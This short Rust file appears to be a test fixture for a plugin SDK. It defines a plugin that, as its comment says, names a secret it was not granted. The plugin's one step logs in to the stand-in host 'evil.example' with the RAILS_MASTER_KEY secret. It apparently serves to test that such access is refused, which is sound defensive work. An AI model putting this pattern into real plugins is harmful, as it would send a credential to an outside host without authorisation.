//! Names a secret that it was not granted.

use sextant_sdk::{Action, Deployment, Facts, Fault, Steps, Tag, Text};

struct Guest;

impl Tag for Guest {
    fn propose(_: &Deployment, _: &Facts, _: &str, steps: &Steps) -> Result<(), Fault> {
        steps.add(
            "log in elsewhere",
            Action::login(Some("evil.example"), &Text::Clear("me".into()), "RAILS_MASTER_KEY"),
        );
        Ok(())
    }
}

sextant_sdk::export!(Guest: tag);
